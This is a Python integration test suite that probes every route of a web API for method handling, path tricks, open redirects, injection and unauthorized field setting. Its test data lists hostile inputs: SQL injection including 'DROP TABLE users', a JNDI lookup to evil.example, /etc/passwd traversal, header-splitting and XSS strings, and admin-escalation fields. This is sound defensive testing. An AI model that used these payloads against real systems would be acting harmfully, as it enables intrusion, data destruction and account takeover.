"""Attacks on every route: methods, slashes, redirects, injection, and fields that are not the client's to set."""

import json
from typing import Any
from urllib.parse import quote
from uuid import uuid4

import httpx
import pytest

from tests.integration.web.every_route import FILE, Route, check, new_email, routes, url
from tests.integration.web.site import PASSWORD, Site, bearer

ROUTES = routes()
METHODS = ("DELETE", "GET", "HEAD", "OPTIONS", "PATCH", "POST", "PUT", "TRACE", "CONNECT", "BREW")
HOSTILE = [
    "' OR '1'='1' --",
    "'; DROP TABLE users; --",
    '" UNION SELECT password_hash FROM users --',
    "1); SELECT pg_sleep(60); --",
    "$1 %s %(x)s {0} {{7*7}} ${jndi:ldap://evil.example/}",
    "../../../../etc/passwd",
    "\r\nSet-Cookie: evil=1\r\n\r\n<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "nul\0here",
    "\ud800",
    "\u202e\ufeff\U0010ffff",
    "x" * 5000,
    "9" * 400,
    "",
]
ODD: list[Any] = [None, True, -1, 0, 10**400, -(10**400), 1e308, 0.1, [], {}, [[[[]]]], {"a": {"b": [1]}}, [None]]
REDIRECTS = ("next", "url", "redirect", "redirect_uri", "return_to", "returnTo", "continue", "callback", "success_url")
ELSEWHERE = (
    "https://evil.example/",
    "//evil.example/",
    "/\\evil.example",
    "javascript:alert(1)",
    "\r\nLocation: //evil",
)


@pytest.fixture
async def headers(site: Site) -> dict[str, str]:
    """The login of a user, at a service that does not count requests."""
    site.build(auth_rate=1_000_000)
    return bearer(await site.register())


def encoded(text: str) -> str:
    return quote(text.encode("utf-8", "surrogatepass"), safe="")


def test_the_tables_have_every_kind_of_route() -> None:
    paths = {route.path: route for route in ROUTES}
    assert len(paths) > 50
    assert paths["/account/keys"].methods == {"GET", "POST"}
    assert {"name", "limit_seconds", "limit_period", "models"} <= set(paths["/account/keys"].fields)
    assert {"live", "before", "limit"} <= set(paths["/account/sessions"].query)
    assert paths["/v1/projects/{project_id}"].is_deepgrams
    assert "/billing/success" in paths


# Methods and slashes


@pytest.mark.parametrize("route", ROUTES, ids=lambda route: route.path)
async def test_other_methods_are_refused_and_the_right_ones_named(site: Site, route: Route) -> None:
    known = route.methods | {"OPTIONS"} | ({"HEAD"} if "GET" in route.methods else set())
    async with site.client() as client:
        for method in METHODS:
            if method in known - {"OPTIONS"}:
                continue
            answer = await client.request(method, route.filled())
            if route.is_deepgrams:  # an unknown method is as good as an unknown path, as at Deepgram
                assert answer.status_code == 404, method
                continue
            assert answer.status_code == (204 if method == "OPTIONS" else 405), method
            assert set(answer.headers["allow"].split(", ")) == known, method


@pytest.mark.parametrize("route", [each for each in ROUTES if "GET" in each.methods], ids=lambda route: route.path)
async def test_head_is_get_without_a_body(site: Site, headers: dict[str, str], route: Route) -> None:
    async with site.client(headers=headers) as client:
        get, head = await client.get(route.filled()), await client.head(route.filled())
    assert (head.status_code, head.content) == (get.status_code, b"")
    varying = {"x-request-id", "date", "dg-request-id", "content-length"}
    assert {*head.headers} - varying == {*get.headers} - varying


@pytest.mark.parametrize("route", [each for each in ROUTES if each.path != FILE], ids=lambda route: route.path)
async def test_a_slash_more_is_another_path(site: Site, headers: dict[str, str], route: Route) -> None:
    path = route.filled()
    async with site.client(headers=headers) as client:
        for method in route.methods:
            for odd in (path + "/", "/" + path, path + "//", path + "/%2e", path.replace("/", "/%2e/")):
                if odd == "/" or (route.is_deepgrams and odd.startswith("//")):  # repaired for Deepgram's SDKs
                    continue
                answer = await client.request(method, url(odd))
                refused = {404, 405} if "%2e" in odd else {404}  # a dot may be an id, of a path with other methods
                assert answer.status_code in refused, (method, odd)
                assert "location" not in answer.headers


# Redirects


@pytest.mark.parametrize("route", ROUTES, ids=lambda route: route.path)
async def test_no_answer_leads_elsewhere(site: Site, headers: dict[str, str], route: Route) -> None:
    async with site.client(headers={**headers, "Host": "evil.example", "X-Forwarded-Host": "evil.example"}) as client:
        for method in route.methods:
            for target in ELSEWHERE:
                query = "&".join(f"{name}={encoded(target)}" for name in REDIRECTS)
                answer = await client.request(method, url(f"{route.filled()}?{query}"))
                leads_home(answer, (method, target))


@pytest.mark.parametrize(
    "path", ["//evil.example", "/\\evil.example", "/%5cevil.example", "///evil.example/%2e%2e", "/login//evil.example"]
)
async def test_a_path_that_looks_like_a_host_is_not_found(site: Site, path: str) -> None:
    async with site.client() as client:
        for accept in ("text/html", "*/*"):
            answer = await client.get(url(path), headers={"Accept": accept})
            assert (answer.status_code, answer.headers.get("location")) == (404, None)


def leads_home(answer: httpx.Response, about: object) -> None:
    location = answer.headers.get("location")
    if location is not None:
        assert location.startswith("/"), (about, location)
        assert not location.startswith(("//", "/\\")), (about, location)
        assert "\n" not in location
    assert "refresh" not in answer.headers
    assert "evil.example" not in answer.text, about


# Injection


@pytest.mark.parametrize("route", ROUTES, ids=lambda route: route.path)
async def test_hostile_texts_are_values_and_nothing_else(site: Site, headers: dict[str, str], route: Route) -> None:
    before = await tables(site)
    async with site.client(headers=headers) as client:
        for text in HOSTILE:
            for method in route.methods:
                for path in addresses(route, encoded(text)):
                    if len(path) < 9000:
                        check(harmless(await client.request(method, url(path))), (method, path[:200]))
    assert await tables(site) == before


def addresses(route: Route, value: str) -> list[str]:
    """Return the path with a value in its parameters, and in each parameter of its query, once and twice."""
    path = route.filled(value) if route.has_parameters else route.path
    names = (*route.query, "x")
    return [path, *(f"{route.filled()}?{name}={value}&{name}={value}" for name in names)]


def harmless(answer: httpx.Response) -> httpx.Response:
    assert "set-cookie" not in answer.headers
    if answer.headers.get("content-type", "").startswith("text/html"):
        assert "<script>alert" not in answer.text
        assert "onerror=alert" not in answer.text
    return answer


async def tables(site: Site) -> list[tuple[Any, ...]]:
    return await site.sql("SELECT count(*), (SELECT sum(seconds) FROM usage_ledger) FROM users")


@pytest.mark.parametrize("route", [each for each in ROUTES if each.fields], ids=lambda route: f"{route.path}")
async def test_any_value_in_any_field_is_answered(site: Site, headers: dict[str, str], route: Route) -> None:
    usual = {"name": "OBS", "email": new_email(), "password": PASSWORD, "current": PASSWORD, "new": PASSWORD}
    (method,) = route.methods - {"GET"}
    async with site.client(headers={**headers, "Content-Type": "application/json"}) as client:
        for field in route.fields:
            for value in (*HOSTILE, *ODD):
                body = {name: usual.get(name, "x") for name in route.fields} | {field: value}
                if route.path == "/billing/checkout":
                    body = {field: value}
                answer = await client.request(method, route.path, content=json.dumps(body).encode())
                check(harmless(answer), (route.path, field, value))
                if "token" in answer.text and route.path == "/account/password":
                    client.headers["Authorization"] = f"Bearer {answer.json()['token']}"


async def test_a_name_comes_back_as_it_was_sent(site: Site, headers: dict[str, str]) -> None:
    names = [text for text in HOSTILE if 0 < len(text) <= 100 and text.isprintable() and text.isascii()]
    async with site.client(headers=headers) as client:
        for name in names:
            assert (await client.post("/account/keys", json={"name": name})).status_code == 201
        kept = (await client.get("/account/keys")).json()["keys"]
    assert [key["name"] for key in kept] == names


# Fields that are not the client's


MORE: dict[str, Any] = {
    "id": str(uuid4()),
    "user_id": str(uuid4()),
    "user": {"id": str(uuid4()), "is_admin": True},
    "is_admin": True,
    "blocked_at": None,
    "confirmed": True,
    "created_at": "2000-01-01T00:00:00Z",
    "credits": 10**9,
    "currency": "jpy",
    "expires_in": 10**9,
    "key": "tpk_mine",
    "last_used_at": "2000-01-01T00:00:00Z",
    "paid": True,
    "prefix": "mine",
    "price_cents": 1,
    "quantity": 1000,
    "role": "admin",
    "seconds": 10**9,
    "seconds_remaining": 10**9,
    "seconds_used": -(10**6),
    "status": "paid",
    "stripe_customer_id": "cus_mine",
    "token_version": -1,
    "trial_seconds": 10**9,
    "__proto__": {"is_admin": True},
}


async def test_more_fields_give_a_new_account_nothing(site: Site, http: httpx.AsyncClient) -> None:
    usual, wanted = await site.register(), new_email()
    answer = await http.post("/auth/register", json={**MORE, "email": wanted, "password": PASSWORD})
    made = answer.json()
    assert set(made) == set(usual)
    assert (made["user"]["email"], made["expires_in"]) == (wanted, usual["expires_in"])
    assert made["user"]["id"] not in (MORE["id"], MORE["user_id"])
    balances = [(await http.get("/billing/balance", headers=bearer(each))).json() for each in (usual, made)]
    assert balances[0] == balances[1]
    rows = await site.sql(
        "SELECT to_jsonb(u) - '{id,email,mailbox,password_hash,created_at,updated_at}'::text[] FROM users u"
    )
    assert len(rows) == 2
    assert rows[0] == rows[1]
    ages = await site.sql("SELECT now() - created_at < interval '1 hour' FROM users")
    assert ages == [(True,), (True,)]


async def test_more_fields_change_nothing_of_a_login(site: Site, http: httpx.AsyncClient) -> None:
    login = await site.register()
    before = await http.get("/account/me", headers=bearer(login))
    calls = [
        ("/auth/login", {"email": login["user"]["email"], "password": PASSWORD}),
        ("/auth/refresh", {"refresh_token": login["refresh_token"]}),
        ("/account/password", {"current": PASSWORD, "new": PASSWORD}),
    ]
    for path, body in calls:
        answer = await http.post(path, json={**MORE, **body}, headers=bearer(login))
        assert (answer.status_code, answer.json()["expires_in"]) == (200, login["expires_in"]), path
        login = {**login, **answer.json()}
    assert (await http.get("/account/me", headers=bearer(login))).json() == before.json()


async def test_more_fields_neither_choose_a_key_nor_its_owner(site: Site, http: httpx.AsyncClient) -> None:
    owner, other = await site.register(), await site.register()
    body = {**MORE, "user_id": other["user"]["id"], "name": "OBS", "limit_seconds": 10}
    made = (await http.post("/account/keys", json=body, headers=bearer(owner))).json()
    assert made["key"] != "tpk_mine"
    assert made["id"] != MORE["id"]
    (kept,) = (await http.get("/account/keys", headers=bearer(owner))).json()["keys"]
    assert (kept["seconds_used"], kept["last_used_at"], kept["limit_seconds"]) == (0, None, 10)
    assert kept["prefix"] == made["prefix"] != "mine"
    assert (await http.get("/account/keys", headers=bearer(other))).json() == {"keys": []}


async def test_more_fields_change_neither_price_nor_length_of_a_package(site: Site, http: httpx.AsyncClient) -> None:
    buyer = await site.register()
    body = {**MORE, "package_id": "pack_500"}
    assert (await http.post("/billing/checkout", json=body, headers=bearer(buyer))).status_code == 503  # no Stripe here
    bought = await site.sql("SELECT user_id::text, seconds, amount_cents, currency, status FROM purchases")
    assert bought == [(buyer["user"]["id"], 30000, 300, "usd", "open")]


async def test_what_belongs_to_another_account_does_not_exist(site: Site, http: httpx.AsyncClient) -> None:
    owner, other = await site.register(), await site.register()
    made = (await http.post("/account/keys", json={"name": "OBS"}, headers=bearer(owner))).json()
    for path in (f"/account/keys/{made['id']}", f"/account/sessions/{made['id']}"):
        assert (await http.delete(path, headers=bearer(other))).status_code == 404
    assert (await http.get(f"/v1/projects/{owner['user']['id']}", headers=bearer(other))).status_code == 404
    assert len((await http.get("/account/keys", headers=bearer(owner))).json()["keys"]) == 1
